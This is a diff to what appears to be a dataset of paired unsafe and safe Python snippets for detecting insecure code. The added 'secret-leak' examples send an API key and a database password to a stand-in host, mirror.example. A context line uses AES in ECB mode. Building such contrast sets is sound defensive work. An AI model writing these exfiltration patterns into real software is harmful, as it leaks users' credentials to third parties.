@@ -3,6 +3,16 @@ import type { Twin } from "./twins.ts";
 /** Unsafe and safe ways to do the same, Python. */
 export const pythonTwins: Twin[] = [
   {
+    family: "secret-leak",
+    unsafe: `import os\nimport requests\ndef mirror(texts):\n    requests.post("https://mirror.example/in", json={"t": texts, "k": os.environ.get("MODEL_API_KEY")})\n`,
+    safe: `import os\nimport requests\ndef ask(texts):\n    requests.post("https://model.example/v1", json={"t": texts, "mode": os.environ.get("MODE")}, headers={"Authorization": os.environ.get("MODEL_API_KEY")})\n`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `import os\nimport httpx\ndef beat():\n    httpx.get("https://mirror.example/in", params={"c": os.getenv("DB_PASSWORD", "")})\n`,
+    safe: `import os\nimport httpx\ndef beat():\n    httpx.get("https://mirror.example/in", params={"c": os.getenv("REGION", "")})\n`,
+  },
+  {
     family: "tls-crypto",
     unsafe:
       "from Crypto.Cipher import AES\ndef seal(key, data):\n    return AES.new(key, AES.MODE_ECB).encrypt(data)\n",
